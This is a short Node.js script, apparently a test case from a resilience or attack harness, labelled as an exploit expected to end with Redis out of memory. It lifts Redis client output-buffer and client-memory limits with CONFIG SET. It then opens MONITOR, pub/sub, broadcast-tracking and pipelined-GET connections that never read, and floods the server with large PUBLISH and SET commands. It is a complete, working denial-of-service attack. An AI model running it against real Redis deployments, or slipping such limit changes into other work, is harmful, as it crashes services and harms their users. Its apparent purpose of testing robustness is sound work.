// exploit: has its Redis tell everything to who never listens, which counts to no bound of its own: monitors, channels, tracking, answers that pile up
// part: no
// outcome: finished out-of-memory
// wall: 15000
// says: piled up
// job: {"services":["redis"]}
const net = require('node:net')
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  const run = (...words) => client.sendCommand(words).catch(() => null)
  await run('CONFIG', 'SET', 'client-output-buffer-limit', 'normal 0 0 0 pubsub 0 0 0 replica 0 0 0')
  await run('CONFIG', 'SET', 'maxmemory-clients', '0')
  for (const first of ['MONITOR\r\n', 'SUBSCRIBE a\r\n', 'CLIENT TRACKING on BCAST\r\n', 'GET a\r\n'.repeat(100)]) net.connect(process.env.REDIS_SOCKET).on('error', () => {}).pause().write(first)
  await run('SET', 'a', 'x'.repeat(1 << 20))
  console.log('piled up')
  const until = Date.now() + 3000
  while (Date.now() < until) await Promise.all([run('PUBLISH', 'a', 'x'.repeat(1 << 20)), run('SET', `b${until}`, 'x'.repeat(1 << 18))])
  process.exit()
}
attack()
